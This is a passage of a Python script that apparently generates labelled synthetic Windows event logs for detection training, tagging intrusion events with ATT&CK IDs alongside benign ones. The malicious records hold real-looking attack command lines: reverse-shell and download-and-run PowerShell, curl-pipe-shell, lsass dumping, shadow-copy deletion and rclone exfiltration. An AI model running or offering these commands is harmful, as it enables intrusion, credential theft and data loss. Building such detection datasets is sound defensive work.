M(S, svc7045("RVM-SQL-07.rvm.internal", T(23, 3, 40, 2, 11), 67011, "AnyDesk Service", "\"C:\\ProgramData\\AnyDesk\\AnyDesk.exe\" --service", start="auto start", fmt="ecs"),
  "T1219.002", "AnyDesk installed as a service under ProgramData on a database server - unsanctioned remote access tool")
M(S, svc7045("RVM-LAP-0950.rvm.internal", T(23, 4, 1, 33, 2), 30110, "WinUpdSvcHelper", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -noni -enc " + ps_enc("$c=New-Object Net.Sockets.TCPClient('146.70.87.19',443);$s=$c.GetStream()"), start="auto start"),
  "T1543.003", "auto-start service that runs an encoded PowerShell reverse-shell stager")
M(S, svc7045("RVM-FS-01.rvm.internal", T(23, 4, 22, 7), 41260, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", fmt="splunk"),
  "T1570", "PsExec service binary pushed to the file server at 04:22, outside any admin change")
B(S, svc7045("RVM-SQL-07.rvm.internal", T(23, 10, 5, 9, 40), 67100, "Tenable Nessus Agent", "\"C:\\Program Files\\Tenable\\Nessus Agent\\nessus-service.exe\"", start="auto start", fmt="ecs"),
  "approved Tenable agent installed by the package deployment")
B(S, svc7045("RVM-LAP-1187.rvm.internal", T(23, 10, 6, 1, 55), 12011, "CcmExec", "C:\\Windows\\CCM\\CcmExec.exe", start="auto start"),
  "SCCM client reinstalled by the client health task")
B(S, svc7045("RVM-FS-01.rvm.internal", T(23, 11, 0, 2), 41288, "VeeamTransportSvc", "C:\\Program Files (x86)\\Veeam\\Backup Transport\\VeeamTransportSvc.exe", start="auto start", acct="LocalSystem", fmt="splunk"),
  "Veeam transport agent deployed by the backup server")
B(S, svc7045("RVM-LAP-0950.rvm.internal", T(23, 11, 30, 5, 1), 30190, "Dell SupportAssist Remediation", "\"C:\\Program Files\\Dell\\SARemediation\\agent\\DellSupportAssistRemediationService.exe\"", start="auto start"),
  "OEM support service installed by a Dell update")
M(S, winxml(104, "RVM-FS-01.rvm.internal", T(23, 3, 41, 12, 7), {}, 41240, provider="Microsoft-Windows-Eventlog", guid="{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}",
  channel="System", task=104, kw="0x8000000000000000", level=4).replace("<EventData></EventData>",
  "<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserName>k.haddad</SubjectUserName><SubjectDomainName>RVM</SubjectDomainName><Channel>Microsoft-Windows-PowerShell/Operational</Channel><BackupPath></BackupPath></LogFileCleared></UserData>"),
  "T1070.001", "PowerShell Operational log cleared by a user account")
M(S, splunk_win(T(23, 4, 30, 0), 7040, "RVM-LAP-0712.rvm.internal", 88190, "None",
  "The start type of the Microsoft Defender Antivirus Service service was changed from auto start to disabled.", kw="Classic", logname="System", srcname="Service Control Manager", etype=4),
  "T1562.001", "Defender antivirus service set to disabled")
M(S, splunk_win(T(23, 4, 30, 9), 7036, "RVM-LAP-0712.rvm.internal", 88191, "None",
  "The Windows Defender Firewall service entered the stopped state.", kw="Classic", logname="System", srcname="Service Control Manager", etype=4),
  "T1562.004", "host firewall service stopped right after Defender was disabled")
B(S, splunk_win(T(23, 9, 0, 30), 7036, "RVM-SQL-07.rvm.internal", 67050, "None",
  "The Remote Registry service entered the running state.", kw="Classic", logname="System", srcname="Service Control Manager", etype=4),
  "Remote Registry started on demand during the approved Nessus credentialed scan from VSCAN-01")
B(S, splunk_win(T(23, 9, 40, 11), 7036, "RVM-SQL-07.rvm.internal", 67060, "None",
  "The Remote Registry service entered the stopped state.", kw="Classic", logname="System", srcname="Service Control Manager", etype=4),
  "Remote Registry stopped again when the scan finished")
B(S, splunk_win(T(23, 22, 0, 1), 7036, "RVM-FS-01.rvm.internal", 41400, "None",
  "The Volume Shadow Copy service entered the running state.", kw="Classic", logname="System", srcname="Service Control Manager", etype=4),
  "VSS started for the nightly backup")
B(S, winxml(6005, "RVM-SQL-07.rvm.internal", T(24, 5, 31, 2), {}, 67200, provider="EventLog", guid=None, channel="System",
  task=0, kw="0x80000000000000", level=4).replace("<EventData></EventData>", "<EventData><Binary></Binary></EventData>"),
  "event log service started after the patch reboot")
B(S, winxml(1074, "RVM-SQL-07.rvm.internal", T(24, 5, 29, 47), {"param1": "C:\\Windows\\servicing\\TrustedInstaller.exe (RVM-SQL-07)",
  "param2": "RVM-SQL-07", "param3": "Operating System: Upgrade (Planned)", "param4": "0x80020003", "param5": "restart", "param6": "",
  "param7": "NT AUTHORITY\\SYSTEM"}, 67199, provider="User32", guid="{b0aa8734-56f7-41cc-b2f4-de228e98b946}", channel="System", task=0, kw="0x8080000000000000", level=4),
  "planned restart by Windows servicing in the patch window")
B(S, nxlog(T(24, 6, 0, 0), "RVM-LAP-1187.rvm.internal", 19, 12500, {"updateTitle": "2026-11 Cumulative Update for Windows 11 Version 24H2 for x64-based Systems (KB5070112)"},
  "Installation Successful: Windows successfully installed the following update: 2026-11 Cumulative Update for Windows 11 Version 24H2 for x64-based Systems (KB5070112)",
  etype="INFO", src="Microsoft-Windows-WindowsUpdateClient", channel="System", task=1), "monthly cumulative update installed")
B(S, nxlog(T(24, 6, 10, 4), "RVM-LAP-0950.rvm.internal", 16, 30301, {"Account": "RVM-LAP-0950$"},
  "The access history in hive \\??\\C:\\Users\\e.achterberg\\ntuser.dat was cleared updating 1822 keys and creating 301 modified pages.",
  etype="INFO", src="Microsoft-Windows-Kernel-General", channel="System", task=0), "routine registry hive access-history maintenance")
B(S, nxlog(T(24, 7, 15, 0), "RVM-FS-01.rvm.internal", 98, 41500, {"DriveName": "D:", "DeviceName": "\\Device\\HarddiskVolume4"},
  "Volume D: (\\Device\\HarddiskVolume4) is healthy.  No action is needed.", etype="INFO", src="Microsoft-Windows-Ntfs", channel="System", task=0),
  "NTFS health check")
B(S, snare(T(24, 8, 3, 19), "RVM-LAP-1320", "System", 55310, 7001, "Microsoft-Windows-Winlogon", "N/A", "N/A", "Information", "None",
  "User Logon Notification for Customer Experience Improvement Program"), "winlogon notification at user logon")
B(S, snare(T(24, 8, 50, 0), "RVM-LAP-1320", "System", 55388, 10016, "Microsoft-Windows-DistributedCOM", "NT AUTHORITY\\SYSTEM", "Well Known Group", "Warning", "None",
  "The application-specific permission settings do not grant Local Activation permission for the COM Server application with CLSID {2593F8B9-4EAF-457C-B68A-50F6B8EA6B54} and APPID {15C20B67-12E7-4BB6-92BB-7AFF07997402} to the user RVM\\s.quinlan SID (S-1-5-21-3308419210-1822710947-255119034-5122) from address LocalHost (Using LRPC) running in the application container Unavailable SID (Unavailable)."),
  "the classic harmless DCOM 10016 permission warning")
M(S, nxlog(T(24, 3, 5, 50), "RVM-LAP-0712.rvm.internal", 7045, 88400, {"ServiceName": "mssecsvc2", "ImagePath": "C:\\Windows\\mssecsvc.exe -m security", "StartType": "auto start", "AccountName": "LocalSystem"},
  "A service was installed in the system. Service Name: mssecsvc2 Service File Name: C:\\Windows\\mssecsvc.exe -m security", etype="INFO", src="Service Control Manager", channel="System", task=0),
  "T1543.003", "worm-style self-installed service binary in C:\\Windows with a -m security switch")
M(S, svc7045("RVM-FS-01.rvm.internal", T(24, 3, 22, 40, 3), 41610, "vmwtooldrv", "\\SystemRoot\\System32\\drivers\\gdrv.sys", start="system start").replace("user mode service", "kernel mode driver"),
  "T1014", "old Gigabyte gdrv.sys loaded as a misnamed 'VMware' driver - kernel access to hide/kill processes")
M(S, splunk_win(T(24, 3, 45, 18), 7040, "RVM-FS-01.rvm.internal", 41640, "None",
  "The start type of the Windows Event Log service was changed from auto start to disabled.", kw="Classic", logname="System", srcname="Service Control Manager", etype=4),
  "T1562.002", "Event Log service disabled - stopping all logging on the host")
M(S, snare(T(24, 4, 3, 12), "RVM-FS-01", "System", 41660, 7036, "Service Control Manager", "N/A", "N/A", "Information", "None",
  "The Veeam Backup Service service entered the stopped state."), "T1489",
  "backup service stopped at 04:03 on the host the intruder controls, just before encryption")
M(S, svc7045("RVM-RDS-02.rvm.internal", T(24, 4, 40, 1, 66), 55102, "ngrok", "\"C:\\ProgramData\\ngrok\\ngrok.exe\" service run --config \"C:\\ProgramData\\ngrok\\ngrok.yml\"", start="auto start", fmt="ecs"),
  "T1572", "ngrok tunnel installed as a service on the RDS host - exposes RDP through a public tunnel")
M(S, nxlog(T(24, 5, 5, 5), "RVM-LAP-0712.rvm.internal", 7045, 88420, {"ServiceName": "DumpSvc", "ImagePath": "cmd /c C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\d.bin full", "StartType": "demand start", "AccountName": "LocalSystem"},
  "A service was installed in the system.", etype="INFO", src="Service Control Manager", channel="System", task=0),
  "T1003.001", "service used to run comsvcs MiniDump of lsass (pid 652) as SYSTEM")
M(S, splunk_win(T(24, 5, 30, 0), 7045, "RVM-LAP-0950.rvm.internal", 30410, "None",
  "A service was installed in the system.  Service Name:  Sysmon64  Service File Name:  C:\\Windows\\Sysmon64.exe  Service Type:  user mode service  Service Start Type:  disabled  Service Account:  LocalSystem",
  kw="Classic", logname="System", srcname="Service Control Manager", etype=4),
  "T1562.001", "Sysmon re-registered with start type disabled - telemetry sabotage")
B(S, splunk_win(T(24, 10, 20, 30), 7040, "RVM-LAP-1320.rvm.internal", 55420, "None",
  "The start type of the Background Intelligent Transfer Service service was changed from auto start to demand start.", kw="Classic", logname="System", srcname="Service Control Manager", etype=4),
  "Windows itself flipping BITS back to manual start")
B(S, winxml(7031, "RVM-SQL-07.rvm.internal", T(24, 13, 2, 5), {"param1": "SQL Server Reporting Services", "param2": "1", "param3": "60000", "param4": "1", "param5": "Restart the service"},
  67310, provider="Service Control Manager", guid=SCM, channel="System", task=0, kw="0x8080000000000000", level=2),
  "SSRS crashed and the SCM restarted it")
B(S, winxml(1014, "RVM-LAP-1320.rvm.internal", T(24, 13, 30, 45), {"QueryName": "wpad.rvm.internal", "AddressLength": "128"}, 55470,
  provider="Microsoft-Windows-DNS-Client", guid="{1c95126e-7eea-49a9-a3fe-a378b03ddb4d}", channel="System", task=1014, kw="0x4000000010000000", level=3),
  "DNS timeout for WPAD on a laptop off the VPN")
B(S, ecs_win(7036, "RVM-LAP-1187.rvm.internal", T(25, 8, 2, 0), {"param1": "Microsoft Intune Management Extension", "param2": "running"},
  "service-state-changed", provider="Service Control Manager", channel="System", rec=12700), "Intune extension service started")
B(S, ecs_win(7036, "RVM-FS-01.rvm.internal", T(25, 22, 0, 3), {"param1": "Veeam Backup VSS Integration Service", "param2": "running"},
  "service-state-changed", provider="Service Control Manager", channel="System", rec=41900), "Veeam VSS integration starting for the nightly job")
M(S, ecs_win(7045, "RVM-LAP-1320.rvm.internal", T(25, 2, 15, 40), {"ServiceName": "UevAgentHelper", "ImagePath": "C:\\Windows\\System32\\mshta.exe vbscript:CreateObject(\"Wscript.Shell\").Run(\"powershell -w 1 -c irm https://cdn-upd.azurefd-msft.net/u|iex\",0)(window.close)",
  "ServiceType": "user mode service", "StartType": "auto start", "AccountName": "LocalSystem"}, "service-installed", provider="Service Control Manager", channel="System", rec=55600),
  "T1218.005", "service launching mshta with inline VBScript that downloads and runs a script")
M(S, nxlog(T(25, 2, 30, 12), "RVM-LAP-1320.rvm.internal", 6, 55610, {"FileName": "\\SystemRoot\\System32\\drivers\\iqvw64e.sys", "Version": "1.03.0.7"},
  "File System Filter 'iqvw64e' (Version 1.03, 2015-11-05) has successfully loaded and registered with Filter Manager.", etype="INFO", src="Microsoft-Windows-FilterManager", channel="System", task=0),
  "T1068", "old Intel iqvw64e network diagnostic driver loaded - known vulnerable driver used to map unsigned code")
M(S, snare(T(25, 2, 40, 2), "RVM-LAP-1320", "System", 55620, 7045, "Service Control Manager", "RVM\\s.quinlan", "User", "Information", "None",
  "A service was installed in the system.    Service Name:  wmiApSrvX    Service File Name:  C:\\Users\\Public\\Libraries\\tv_x64.exe --svc    Service Type:  user mode service    Service Start Type:  auto start    Service Account:  LocalSystem"),
  "T1036.004", "service named like the WMI performance adapter running a binary out of Public\\Libraries")
B(S, snare(T(25, 9, 30, 10), "RVM-LAP-1320", "System", 55700, 7045, "Service Control Manager", "NT AUTHORITY\\SYSTEM", "Well Known Group", "Information", "None",
  "A service was installed in the system.    Service Name:  Zoom Sharing Service    Service File Name:  \"C:\\Program Files\\Common Files\\Zoom\\Support\\CptService.exe\" -user_path \"C:\\Users\\s.quinlan\\AppData\\Roaming\\Zoom\"    Service Type:  user mode service    Service Start Type:  auto start    Service Account:  LocalSystem"),
  "Zoom sharing service installed by the Company Portal")
# ---------------------------------------------------------------- sysmon
S = "sysmon"
SYS_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
_pg = [0]


def guid(n):
    return "{%08x-%04x-%04x-%04x-%012x}" % (0x3c4d0000 + n, 0x6a11, 0x11f1 + n % 7, 0xa000 + n, 0x5254001a2b00 + n)


def sx(eid, comp, t, data, rec, task=None):
    d = {"RuleName": "-", "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"}
    d.update(data)
    return winxml(eid, comp, t, d, rec, provider="Microsoft-Windows-Sysmon", guid=SYS_GUID, channel="Microsoft-Windows-Sysmon/Operational",
                  task=task or eid, kw="0x8000000000000000", ver=5, pid=3120, tid=4012, level=4)


def proc(comp, t, n, image, cmd, user, parent, pcmd, integrity="Medium", cwd="C:\\Windows\\system32\\", hashes="SHA256=-", company="Microsoft Corporation", orig="-", desc="-"):
    return {"ProcessGuid": guid(n), "ProcessId": str(4000 + n * 13), "Image": image, "FileVersion": "-", "Description": desc,
            "Product": "-", "Company": company, "OriginalFileName": orig, "CommandLine": cmd, "CurrentDirectory": cwd, "User": user,
            "LogonGuid": guid(900 + n), "LogonId": "0x%x" % (0x2c0000 + n), "TerminalSessionId": "1", "IntegrityLevel": integrity,
            "Hashes": hashes, "ParentProcessGuid": guid(500 + n), "ParentProcessId": str(2000 + n * 7), "ParentImage": parent,
            "ParentCommandLine": pcmd, "ParentUser": user}


def secs(comp, t, n, image, cmd, user, parent, pcmd, **kw):
    o = {"@timestamp": iso(t), "event": {"code": "1", "provider": "Microsoft-Windows-Sysmon", "category": ["process"], "type": ["start"], "module": "sysmon"},
         "host": {"name": comp.lower(), "os": {"family": "windows"}}, "user": {"name": user.split("\\")[-1], "domain": user.split("\\")[0]},
         "process": {"pid": 4000 + n * 13, "entity_id": guid(n), "executable": image, "name": image.split("\\")[-1], "command_line": cmd,
                     "working_directory": kw.get("cwd", "C:\\Windows\\system32\\"), "pe": {"original_file_name": kw.get("orig", image.split("\\")[-1].upper())},
                     "parent": {"pid": 2000 + n * 7, "executable": parent, "name": parent.split("\\")[-1], "command_line": pcmd}},
         "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "computer_name": comp, "record_id": 600000 + n,
                    "event_data": {"IntegrityLevel": kw.get("integrity", "Medium"), "LogonId": "0x%x" % (0x2c0000 + n)}},
         "agent": {"type": "winlogbeat", "version": "8.14.1"}}
    return J(o)


C1 = "RVM-LAP-0712.rvm.internal"
C2 = "RVM-LAP-1320.rvm.internal"
C3 = "RVM-FS-01.rvm.internal"
C4 = "RVM-LAP-1187.rvm.internal"
EXP = "C:\\Windows\\explorer.exe"
PSH = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
M(S, sx(1, C1, T(23, 2, 58, 1, 410), proc(C1, None, 1, "C:\\Windows\\System32\\mshta.exe", "\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Users\\r.iyer\\Downloads\\Remittance_INV-88213.hta\" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}",
  "RVM\\r.iyer", EXP, "C:\\Windows\\Explorer.EXE", orig="MSHTA.EXE"), 610001),
  "T1218.005", "user opens an .hta 'remittance' from Downloads with mshta - phishing payload")
M(S, sx(1, C1, T(23, 2, 58, 4, 22), proc(C1, None, 2, "C:\\Windows\\System32\\conhost.exe", "conhost.exe --headless cmd /c \"set x=po&& set y=wershell&& call %x%%y% -w 1 -ep b^ypass -c \"\"$u='ht'+'tps://files-cdn.dropmeafile.net/a/';iwr ($u+'k.ps1')|i`e`x\"\"\"",
  "RVM\\r.iyer", "C:\\Windows\\System32\\mshta.exe", "\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Users\\r.iyer\\Downloads\\Remittance_INV-88213.hta\""), 610002),
  "T1059.001", "mshta spawns headless conhost building 'powershell' from variables to download-and-run a script")
B(S, sx(1, C4, T(23, 8, 0, 40, 1), proc(C4, None, 3, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE\" ",
  "RVM\\w.lindqvist", EXP, "C:\\Windows\\Explorer.EXE", cwd="C:\\Users\\w.lindqvist\\", orig="Outlook.exe"), 610050), "user starts Outlook")
M(S, sx(10, C1, T(23, 3, 0, 12, 907), {"SourceProcessGUID": guid(4), "SourceProcessId": "7712", "SourceThreadId": "7716",
  "SourceImage": "C:\\Users\\r.iyer\\AppData\\Local\\Temp\\~DF3A1.tmp.exe", "TargetProcessGUID": guid(5), "TargetProcessId": "652",
  "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1010",
  "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000218A3F10B2C)",
  "SourceUser": "RVM\\r.iyer", "TargetUser": "NT AUTHORITY\\SYSTEM"}, 610010),
  "T1003.001", "temp executable opens lsass with VM_READ|QUERY_LIMITED from unbacked memory - credential dumping")
B(S, sx(10, C4, T(23, 9, 1, 3, 5), {"SourceProcessGUID": guid(6), "SourceProcessId": "4420", "SourceThreadId": "5012",
  "SourceImage": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MsMpEng.exe", "TargetProcessGUID": guid(7), "TargetProcessId": "704",
  "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1000",
  "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9f0b4|C:\\Windows\\System32\\KERNELBASE.dll+3a1ce|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\mpengine.dll+5c8a2e",
  "SourceUser": "NT AUTHORITY\\SYSTEM", "TargetUser": "NT AUTHORITY\\SYSTEM"}, 610070),
  "Defender engine querying lsass with PROCESS_QUERY_LIMITED_INFORMATION only")
B(S, sx(10, C4, T(23, 9, 2, 40, 77), {"SourceProcessGUID": guid(8), "SourceProcessId": "3380", "SourceThreadId": "3392",
  "SourceImage": "C:\\Program Files\\CrowdStrike\\CSFalconService.exe", "TargetProcessGUID": guid(7), "TargetProcessId": "704",
  "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x101000",
  "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9f0b4|C:\\Windows\\System32\\KERNELBASE.dll+3a1ce|C:\\Program Files\\CrowdStrike\\CSFalconService.exe+1a0f33",
  "SourceUser": "NT AUTHORITY\\SYSTEM", "TargetUser": "NT AUTHORITY\\SYSTEM"}, 610071),
  "EDR sensor checking lsass with limited rights")
M(S, secs(C1, T(23, 3, 4, 1, 330), 9, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe /nologo /noconsolelogger C:\\Users\\Public\\Documents\\proj.xml",
  "RVM\\r.iyer", PSH, "powershell.exe -w 1 -ep bypass", orig="MSBuild.exe"),
  "T1127.001", "MSBuild compiling an inline-task project from Public\\Documents, launched by PowerShell - trusted developer utility proxy")
M(S, secs(C1, T(23, 3, 6, 44, 2), 10, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /V:ON /C \"set k=ssa&&set q=dmin&&!k:~0,1!!k!!q! dElEtE sHaDoWs /aLl /qUiEt\"",
  "RVM\\r.iyer", "C:\\Users\\r.iyer\\AppData\\Local\\Temp\\~DF3A1.tmp.exe", "~DF3A1.tmp.exe -s", integrity="High", orig="Cmd.Exe"),
  "T1490", "delayed-expansion cmd assembling 'vssadmin delete shadows /all /quiet' - inhibiting recovery")
M(S, sx(1, C1, T(23, 3, 7, 2, 91), proc(C1, None, 11, "C:\\Windows\\System32\\wbem\\WMIC.exe", "WmIc  /NoDe:\"10.212.8.15\",\"10.212.8.16\" process call create \"cmd /c copy \\\\10.212.61.203\\x$\\upd.exe C:\\Windows\\Temp\\ & C:\\Windows\\Temp\\upd.exe\"",
  "RVM\\k.haddad", CMD, "cmd.exe", integrity="High", orig="wmic.exe"), 610020),
  "T1047", "WMIC remote process creation on two servers that copies and starts a binary - lateral execution")
M(S, sx(13, C1, T(23, 3, 8, 10, 5), {"EventType": "SetValue", "ProcessGuid": guid(12), "ProcessId": "8120", "Image": "C:\\Windows\\System32\\reg.exe",
  "TargetObject": "HKU\\S-1-5-21-3308419210-1822710947-255119034-3310\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveStandaloneUpdater",
  "Details": "C:\\Users\\r.iyer\\AppData\\Roaming\\Microsoft\\OneDrive\\odsu.exe -background", "User": "RVM\\r.iyer"}, 610021, task=13),
  "T1547.001", "Run key imitating the OneDrive updater pointing into Roaming - logon persistence")
B(S, sx(13, C4, T(23, 10, 12, 0, 5), {"EventType": "SetValue", "ProcessGuid": guid(13), "ProcessId": "9140", "Image": "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe",
  "TargetObject": "HKU\\S-1-5-21-3308419210-1822710947-255119034-2207\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
  "Details": "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background", "User": "RVM\\w.lindqvist"}, 610080, task=13),
  "the real OneDrive registering its own Run value")
M(S, sx(13, C2, T(23, 3, 30, 33, 1), {"EventType": "SetValue", "ProcessGuid": guid(14), "ProcessId": "6021", "Image": "C:\\Windows\\regedit.exe",
  "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit",
  "Details": "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\Intel\\igfxtray.exe,", "User": "RVM\\s.quinlan"}, 620011, task=13),
  "T1547.004", "Winlogon Userinit value extended with a second binary in ProgramData - Winlogon helper persistence")
M(S, sx(3, C1, T(23, 3, 10, 1, 2), {"ProcessGuid": guid(15), "ProcessId": "7712", "Image": "C:\\Users\\r.iyer\\AppData\\Local\\Temp\\~DF3A1.tmp.exe", "User": "RVM\\r.iyer",
  "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.212.31.88", "SourceHostname": "RVM-LAP-0712.rvm.internal", "SourcePort": "61733", "SourcePortName": "-",
  "DestinationIsIpv6": "false", "DestinationIp": "146.70.87.19", "DestinationHostname": "-", "DestinationPort": "8443", "DestinationPortName": "-"}, 610022, task=3),
  "T1071.001", "the dropped temp binary beacons to an external VPS on 8443")
B(S, sx(3, C4, T(23, 10, 30, 2, 9), {"ProcessGuid": guid(16), "ProcessId": "4412", "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "User": "RVM\\w.lindqvist",
  "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.212.31.40", "SourceHostname": "RVM-LAP-1187.rvm.internal", "SourcePort": "55102", "SourcePortName": "-",
  "DestinationIsIpv6": "false", "DestinationIp": "142.250.185.78", "DestinationHostname": "fra24s07-in-f14.1e100.net", "DestinationPort": "443", "DestinationPortName": "https"}, 610090, task=3),
  "browser to Google over 443")
M(S, sx(22, C2, T(23, 3, 31, 0, 777), {"ProcessGuid": guid(17), "ProcessId": "6190", "QueryName": "aGVsbG8td29ybGQK.t1.cdn-stat-metrics.com", "QueryStatus": "0",
  "QueryResults": "type:  16 \"ok\";", "Image": "C:\\ProgramData\\Intel\\igfxtray.exe", "User": "RVM\\s.quinlan"}, 620012, task=22),
  "T1071.004", "TXT lookups with base64 labels from a fake Intel binary - DNS tunnelling C2")
B(S, sx(22, C4, T(23, 10, 31, 0, 9), {"ProcessGuid": guid(18), "ProcessId": "4412", "QueryName": "login.microsoftonline.com", "QueryStatus": "0",
  "QueryResults": "type:  5 login.mso.msidentity.com;::ffff:20.190.160.21;", "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "User": "RVM\\w.lindqvist"}, 610091, task=22),
  "browser resolving Entra ID sign-in")
M(S, sx(11, C3, T(23, 4, 50, 2, 3), {"ProcessGuid": guid(19), "ProcessId": "5510", "Image": "C:\\Windows\\Temp\\upd.exe",
  "TargetFilename": "D:\\Shares\\Finance\\2026\\Q4\\accruals-nov.xlsx.rvmlock", "CreationUtcTime": "2026-11-23 04:50:02.003", "User": "RVM\\k.haddad"}, 630001, task=11),
  "T1486", "finance spreadsheets rewritten with a new .rvmlock extension by the dropped binary - ransomware")
B(S, sx(11, C3, T(23, 22, 10, 5, 1), {"ProcessGuid": guid(20), "ProcessId": "3012", "Image": "C:\\Program Files (x86)\\Veeam\\Backup Transport\\x64\\VeeamAgent.exe",
  "TargetFilename": "C:\\ProgramData\\Veeam\\Backup\\VeeamAgent_2026-11-23.log", "CreationUtcTime": "2026-11-23 22:10:05.001", "User": "NT AUTHORITY\\SYSTEM"}, 630100, task=11),
  "Veeam agent writing its job log")
M(S, secs(C2, T(23, 3, 33, 5, 1), 21, "C:\\Windows\\System32\\rundll32.exe", "\"C:\\Windows\\System32\\rundll32.exe\" C:\\windows\\system32\\comsvcs.dll #+0000^24 652 C:\\ProgramData\\Intel\\lg.tmp full",
  "RVM\\s.quinlan", CMD, "cmd /q", integrity="High", orig="RUNDLL32.EXE"),
  "T1003.001", "comsvcs MiniDump called by padded ordinal (#+0000^24) against lsass")
M(S, secs(C2, T(23, 3, 35, 18, 44), 22, "C:\\Windows\\System32\\certutil.exe", "certutil.exe  -url\"\"cache -spl\"\"it -f https://raw.githubusercontent-usercdn.com/ms/t.cab C:\\ProgramData\\Intel\\t.cab",
  "RVM\\s.quinlan", CMD, "cmd /q", orig="CertUtil.exe"),
  "T1105", "certutil with quote-split -urlcache -split -f downloading a cab - ingress tool transfer")
M(S, secs(C2, T(23, 3, 37, 1, 0), 23, "C:\\Windows\\System32\\nltest.exe", "nltest  /domain_trusts /all_trusts",
  "RVM\\s.quinlan", CMD, "cmd /q", orig="nltestrk.exe"),
  "T1482", "enumerates all domain trusts from a user workstation during the intrusion")
M(S, sx(1, C2, T(23, 3, 38, 30, 5), proc(C2, None, 24, "C:\\ProgramData\\Intel\\adf.exe", "adf.exe -f \"(objectcategory=person)\" > C:\\ProgramData\\Intel\\ad_users.txt",
  "RVM\\s.quinlan", CMD, "cmd /q", orig="AdFind.exe", company="joeware.net", desc="AdFind"), 620020),
  "T1087.002", "renamed AdFind dumping every person object - domain account discovery")
M(S, sx(1, C2, T(23, 3, 40, 0, 11), proc(C2, None, 25, "C:\\Windows\\System32\\cmstp.exe", "cmstp.exe /ni /s C:\\Users\\s.quinlan\\AppData\\Local\\Temp\\vpnprof.inf",
  "RVM\\s.quinlan", CMD, "cmd /q", orig="CMSTP.EXE"), 620021),
  "T1218.003", "silent cmstp with an INF from Temp - UAC bypass / proxy execution")
M(S, secs(C3, T(23, 4, 40, 1, 2), 26, "C:\\Program Files\\WinRAR\\Rar.exe", "rar.exe a -hp -m5 -v500m -r C:\\PerfLogs\\bk\\f.rar D:\\Shares\\Finance\\* D:\\Shares\\HR\\*",
  "RVM\\k.haddad", CMD, "cmd /c", integrity="High", orig="Rar.exe"),
  "T1560.001", "password-protected split RAR of the Finance and HR shares into PerfLogs - staging for exfiltration")
M(S, secs(C3, T(23, 4, 45, 30, 1), 27, "C:\\PerfLogs\\bk\\rclone.exe", "rclone.exe copy C:\\PerfLogs\\bk mega:bk --transfers 8 --multi-thread-streams 4 -q --ignore-existing --auto-confirm",
  "RVM\\k.haddad", CMD, "cmd /c", integrity="High", orig="rclone.exe"),
  "T1567.002", "rclone pushing the archives to a MEGA remote - exfiltration to cloud storage")
M(S, sx(8, C1, T(23, 3, 11, 30, 99), {"SourceProcessGuid": guid(28), "SourceProcessId": "7712", "SourceImage": "C:\\Users\\r.iyer\\AppData\\Local\\Temp\\~DF3A1.tmp.exe",
  "TargetProcessGuid": guid(29), "TargetProcessId": "3310", "TargetImage": "C:\\Windows\\System32\\RuntimeBroker.exe", "NewThreadId": "8840",
  "StartAddress": "0x00000218A3F20000", "StartModule": "-", "StartFunction": "-", "SourceUser": "RVM\\r.iyer", "TargetUser": "RVM\\r.iyer"}, 610023, task=8),
  "T1055", "remote thread into RuntimeBroker starting in unbacked memory - process injection")
M(S, sx(1, C4, T(24, 1, 10, 2, 2), proc(C4, None, 31, "C:\\Windows\\System32\\wsl.exe", "wsl.exe -e /bin/bash -c \"curl -s http://45.155.205.233/i|sh\"",
  "RVM\\w.lindqvist", "C:\\Windows\\System32\\wscript.exe", "wscript.exe //e:jscript C:\\Users\\w.lindqvist\\AppData\\Local\\Temp\\inv.js", orig="wsl.exe"), 610200),
  "T1202", "JScript dropper running a curl|sh through WSL - indirect command execution to dodge Windows telemetry")
M(S, sx(7, C4, T(24, 1, 12, 0, 7), {"ProcessGuid": guid(32), "ProcessId": "5521", "Image": "C:\\Users\\w.lindqvist\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
